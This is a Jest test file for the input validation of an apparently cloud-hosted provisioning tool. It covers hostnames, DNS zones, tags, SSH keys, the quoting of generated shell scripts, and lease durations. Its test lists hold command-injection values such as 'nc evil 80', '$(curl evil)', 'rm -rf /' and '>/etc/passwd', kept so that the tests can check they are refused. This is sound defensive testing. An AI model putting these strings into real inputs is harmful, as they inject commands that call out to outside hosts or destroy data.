/** The input contract and the scripts built from it. */
import { parseReport, probeScript, quote, setHostnameScript, staticHostname } from '../lambdas/lib/commands';
import {
  formatDuration,
  formatUtcTime,
  parseCreateRequest,
  parseDefaults,
  parseDestroyRequest,
  parseDuration,
  parseHostname,
  parseUtcTime,
  parseZone,
  resolveLease,
} from '../lambdas/lib/input';
import { renderUserData } from '../lambdas/lib/user-data';

test.each([
  ['', /must not be empty/],
  ['a'.repeat(64), /at most 63/],
  ['web_1', /not a DNS label/],
  ['a;reboot', /not a DNS label/],
  ['$(id)', /not a DNS label/],
  ['-web', /not a DNS label/],
  ['web-', /not a DNS label/],
  ['wéb', /not a DNS label/],
  ['web.1', /not a DNS label/],
  ['web 1', /not a DNS label/],
])('hostname %j is refused', (value, message) => {
  expect(() => parseHostname(value)).toThrow(message);
});

test('hostnames and zones are normalised: case folded, one trailing dot dropped', () => {
  expect(parseHostname('Web1')).toBe('web1');
  expect(parseHostname('a'.repeat(63))).toBe('a'.repeat(63));
  expect(parseZone('Example.Internal.')).toBe('example.internal');
  expect(() => parseZone('internal')).toThrow(/dnsZone/);
  expect(() => parseZone('example..internal')).toThrow(/dnsZone/);
  expect(() => parseZone("ex'ample.internal")).toThrow(/dnsZone/);
});

test('errors name the field', () => {
  expect(() => parseCreateRequest({ hostname: 'web1', dnsZone: 'a.b', ttl: 'soon' })).toThrow(/^ttl: /);
  expect(() => parseCreateRequest({ hostname: 'web1', dnsZone: 'a.b', securityGroupIds: ['sg-1;x'] })).toThrow(
    /^securityGroupIds\[0\]: /,
  );
  expect(() => parseCreateRequest({ hostname: 'web1', dnsZone: 'a.b', tags: { Name: 'x' } })).toThrow(/^tags\.Name: /);
  expect(() => parseCreateRequest({ hostname: 'web1', dnsZone: 'a.b', adminUser: 'ops' })).toThrow(/^sshPublicKey: /);
  expect(() => parseCreateRequest(['web1'])).toThrow(/^input: /);
  expect(() => parseDefaults({ hostname: 'web1' })).toThrow(/^hostname: unknown field in the stored defaults/);
  expect(() => parseDestroyRequest({ instanceId: 'i-0123456789abcdef0', hostname: 'web1' })).toThrow(/^instanceId: /);
  expect(() => parseDestroyRequest({ hostname: 'web1', dnsZone: 'a.b', force: 'yes' })).toThrow(/^force: /);
});

test('an admin user with an OpenSSH key is accepted; a key with a shell payload is not', () => {
  const key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB9 ops@laptop';
  expect(parseCreateRequest({ hostname: 'web1', dnsZone: 'a.b', adminUser: 'ops', sshPublicKey: key })).toMatchObject({
    adminUser: 'ops',
    sshPublicKey: key,
  });
  expect(() =>
    parseCreateRequest({ hostname: 'web1', dnsZone: 'a.b', adminUser: 'ops', sshPublicKey: "ssh-ed25519 AAAA x';id" }),
  ).toThrow(/^sshPublicKey: /);
  const script = Buffer.from(renderUserData('ops', key), 'base64').toString();
  // cloud-init runs user data as a script only when it starts with its #! line.
  expect(script.startsWith('#!/bin/bash\n')).toBe(true);
  expect(script).toContain(`ADMIN_USER='ops'`);
  expect(script).toContain(`SSH_PUBLIC_KEY='${key}'`);
  expect(() => renderUserData("ops'; rm -rf /", key)).toThrow();
});

test('the set-hostname script quotes every value and refuses anything unquotable', () => {
  const script = setHostnameScript('web1.example.internal', 'web1', '10.0.1.4');
  expect(script).toContain("hostnamectl set-hostname 'web1.example.internal'");
  expect(script.join('\n')).toContain('preserve_hostname: true');
  expect(() => quote('$(id)')).toThrow();
  expect(() => quote("a'b")).toThrow();
});

test('an FQDN longer than Linux keeps (64) sets the short name as static hostname, the FQDN in /etc/hosts', () => {
  const fqdn = `web1.${'z'.repeat(60)}.internal`;
  const script = setHostnameScript(fqdn, 'web1', '10.0.1.4').join('\n');
  expect(script).toContain("hostnamectl set-hostname 'web1'");
  expect(script).toContain(`'10.0.1.4' '${fqdn}' 'web1' >> /etc/hosts`);
  expect(staticHostname('web1.example.internal', 'web1')).toBe('web1.example.internal');
});

test('the scripts need nothing beyond sh, coreutils, getent and hostnamectl: no hostname binary', () => {
  const lines = [...setHostnameScript('web1.example.internal', 'web1', '10.0.1.4'), ...probeScript()];
  expect(lines.join('\n')).not.toMatch(/(^|[\s$(|;])hostname(\s|$)/m);
});

test('the scripts report boot id, static hostname, fqdn and cloud-init as key=value lines', () => {
  expect(parseReport('cloud_init=0\nboot_id=abc\nstatic=web1\nfqdn=web1.example.internal\n')).toEqual({
    cloudInit: '0',
    bootId: 'abc',
    staticHostname: 'web1',
    fqdn: 'web1.example.internal',
  });
  expect(parseReport('')).toEqual({});
});

/** Strings an attacker, a typo or a copy-paste from a web page could put in the input. */
const HOSTILE = [
  'web1;reboot',
  'web1|nc evil 80',
  'web1&&id',
  'web1`id`',
  '$(curl evil)',
  'web1>/etc/passwd',
  "web1'",
  'web1"',
  'web1\\',
  'web1\nreboot',
  'web1\t',
  ' web1',
  'wеb1', // Cyrillic е
  'web1\u200b', // zero-width space
  'web1\u202e', // right-to-left override
  'ｗｅｂ１', // full-width
  'web🙂',
  'xn--web-',
  'a'.repeat(64),
  'web1.',
  '..',
  '*',
];

describe('hostile input never reaches a command', () => {
  const safeLabel = /^[a-z0-9]([a-z0-9-]*[a-z0-9])?$/;
  test.each(HOSTILE.map((h) => [JSON.stringify(h), h]))('hostname %s is refused with InvalidInput', (_label, value) => {
    expect(() => parseCreateRequest({ hostname: value, dnsZone: 'example.internal' })).toThrow(
      expect.objectContaining({ name: 'InvalidInput', field: 'hostname' }),
    );
    expect(() => parseDestroyRequest({ hostname: value, dnsZone: 'example.internal' })).toThrow(
      expect.objectContaining({ name: 'InvalidInput' }),
    );
  });

  test.each(HOSTILE.filter((h) => h !== 'web1.').map((h) => [JSON.stringify(h), `${h}.internal`]))(
    'zone %s is refused with InvalidInput',
    (_label, zone) => {
      expect(() => parseCreateRequest({ hostname: 'web1', dnsZone: zone })).toThrow(
        expect.objectContaining({ name: 'InvalidInput', field: 'dnsZone' }),
      );
    },
  );

  test.each(HOSTILE.filter((h) => /[;|&`$<>'"\\\n\t*]/.test(h)).map((h) => [JSON.stringify(h), h]))(
    'tag value %s is refused with InvalidInput',
    (_label, value) => {
      expect(() => parseCreateRequest({ hostname: 'web1', dnsZone: 'a.b', tags: { team: value } })).toThrow(
        expect.objectContaining({ name: 'InvalidInput', field: 'tags.team' }),
      );
    },
  );

  test('upper case and one trailing dot are normalised, and only the normalised name reaches the script', () => {
    const request = parseCreateRequest({ hostname: 'WEB1', dnsZone: 'Example.Internal.' });
    expect(request).toMatchObject({ hostname: 'web1', dnsZone: 'example.internal' });
    expect(request.hostname).toMatch(safeLabel);
    const script = setHostnameScript(`${request.hostname}.${request.dnsZone}`, request.hostname, '10.0.1.4').join('\n');
    expect(script).toContain("hostnamectl set-hostname 'web1.example.internal'");
    expect(script).not.toMatch(/WEB1|Example/);
  });

  test('a zone label of 64 characters, or a zone longer than 253, is refused', () => {
    expect(() => parseZone(`${'a'.repeat(64)}.internal`)).toThrow(/dnsZone/);
    expect(() => parseZone(`${'a.'.repeat(127)}internal`)).toThrow(/at most 253/);
    expect(() =>
      parseCreateRequest({
        hostname: 'a'.repeat(63),
        dnsZone: `${'b'.repeat(63)}.${'c'.repeat(63)}.${'d'.repeat(63)}`,
      }),
    ).toThrow(/^hostname: .*longer than 253/);
  });
});

test('a bootstrap carries at most 64 KiB (SSM keeps no bigger document); the fleet payload is sized by it', () => {
  const line = 'x'.repeat(4096);
  const request = (commands: string[]) => ({ hostname: 'web1', dnsZone: 'a.b', bootstrap: { commands } });
  expect(() => parseCreateRequest(request(Array(15).fill(line)))).not.toThrow();
  expect(() => parseCreateRequest(request(Array(17).fill(line)))).toThrow(
    /^bootstrap\.commands: are 69649 characters in all; a bootstrap carries at most 65536/,
  );
});

describe('leases', () => {
  const now = new Date('2026-11-28T10:00:00.000Z');
  const host = { hostname: 'web1', dnsZone: 'a.b' };

  test.each([
    ['30m', 1800],
    ['4h', 14400],
    ['2d', 172800],
    ['1d12h', 129600],
    ['1h30m', 5400],
  ])('the duration %s is %i seconds', (text, seconds) => {
    expect(parseDuration(text)).toBe(seconds);
    expect(parseDuration(formatDuration(seconds))).toBe(seconds);
  });

  test.each(['', '4', 'h', '4H', '4 h', '30s', '1w', '1m1h', '-4h', '4.5h', '0m', '0d0h', 4, null])(
    'the duration %j is refused',
    (value) => {
      expect(() => parseDuration(value)).toThrow(/^expiresIn: /);
    },
  );

  test('UTC times: to the whole second; a date that does not exist or a local time is refused', () => {
    expect(formatUtcTime(parseUtcTime('2026-12-01T18:00Z'))).toBe('2026-12-01T18:00:00Z');
    expect(formatUtcTime(parseUtcTime('2026-12-01T18:00:30.999Z'))).toBe('2026-12-01T18:00:30Z');
    for (const bad of [
      '2026-02-30T10:00:00Z',
      '2026-12-01T24:00:00Z',
      '2026-12-01T18:00:00',
      '2026-12-01T18:00:00+01:00',
      '2026-12-01',
      'tomorrow',
    ]) {
      expect(() => parseUtcTime(bad)).toThrow(/^expiresAt: .* is not a UTC time in ISO 8601/);
    }
  });

  test('a create takes expiresIn or expiresAt, not both; each within 15 minutes and a year; expiresAt in the future', () => {
    expect(parseCreateRequest({ ...host, expiresIn: '4h' }, { now })).toMatchObject({ expiresIn: '4h' });
    expect(parseCreateRequest({ ...host, expiresAt: '2026-11-28T18:00Z' }, { now })).toMatchObject({
      expiresAt: '2026-11-28T18:00:00Z',
    });
    const refused: Array<[Record<string, unknown>, RegExp]> = [
      [
        { expiresIn: '4h', expiresAt: '2026-11-28T18:00:00Z' },
        /^expiresIn: give either expiresIn or expiresAt, not both/,
      ],
      [{ expiresIn: '10m' }, /^expiresIn: 10m is 10m; the shortest lease is 15m/],
      [{ expiresIn: '400d' }, /^expiresIn: 400d is 400d; the longest lease is 365d/],
      [{ expiresIn: 'soon' }, /^expiresIn: "soon" is not a duration/],
      [
        { expiresAt: '2026-11-28T09:00:00Z' },
        /^expiresAt: 2026-11-28T09:00:00Z is not in the future \(now: 2026-11-28T10:00:00Z\)/,
      ],
      [{ expiresAt: '2026-11-28T10:05:00Z' }, /^expiresAt: .* is 5m from now; the shortest lease is 15m/],
      [{ expiresAt: '2028-01-01T00:00:00Z' }, /^expiresAt: .*; the longest lease is 365d/],
      [{ expiresAt: 1764324000 }, /^expiresAt: 1764324000 is not a UTC time/],
    ];
    for (const [lease, message] of refused) {
      expect(() => parseCreateRequest({ ...host, ...lease }, { now })).toThrow(message);
    }
  });

  test('the defaults hold the longest lease as expiresIn, never an expiresAt', () => {
    expect(parseDefaults({ expiresIn: '8h' })).toEqual({ expiresIn: '8h' });
    expect(() => parseDefaults({ expiresIn: '8 hours' })).toThrow(/^expiresIn: /);
    expect(() => parseDefaults({ expiresAt: '2026-12-01T00:00:00Z' })).toThrow(
      /^expiresAt: unknown field in the stored defaults/,
    );
  });

  test('resolveLease: the request within the maximum, the maximum for a create naming none, none without either', () => {
    expect(resolveLease({ expiresIn: '30m' }, {}, now)).toEqual({
      expiresAt: '2026-11-28T10:30:00Z',
      from: 'expiresIn',
    });
    expect(resolveLease({ expiresAt: '2026-11-28T12:00:00Z' }, { expiresIn: '8h' }, now)).toEqual({
      expiresAt: '2026-11-28T12:00:00Z',
      from: 'expiresAt',
    });
    expect(resolveLease({}, { expiresIn: '8h' }, now)).toEqual({ expiresAt: '2026-11-28T18:00:00Z', from: 'defaults' });
    expect(resolveLease({ expiresIn: '8h' }, { expiresIn: '8h' }, now)?.expiresAt).toBe('2026-11-28T18:00:00Z');
    expect(resolveLease({}, {}, now)).toBeUndefined();
    expect(() => resolveLease({ expiresIn: '2d' }, { expiresIn: '8h' }, now)).toThrow(
      /^expiresIn: 2d is longer than the longest lease this deployment allows \(expiresIn 8h in the stored defaults\)/,
    );
    expect(() => resolveLease({ expiresAt: '2026-11-28T18:00:01Z' }, { expiresIn: '8h' }, now)).toThrow(
      /^expiresAt: 2026-11-28T18:00:01Z is later than the longest lease this deployment allows \(expiresIn 8h in the stored defaults\) from now/,
    );
  });

  test('destroy by instanceId and hostname (what a lease starts) needs the zone too', () => {
    const instanceId = 'i-0123456789abcdef0';
    expect(parseDestroyRequest({ instanceId, hostname: 'Web1', dnsZone: 'a.b' })).toEqual({
      instanceId,
      hostname: 'web1',
      dnsZone: 'a.b',
      force: false,
    });
    expect(() => parseDestroyRequest({ instanceId, hostname: 'web1' })).toThrow(/^instanceId: /);
  });
});
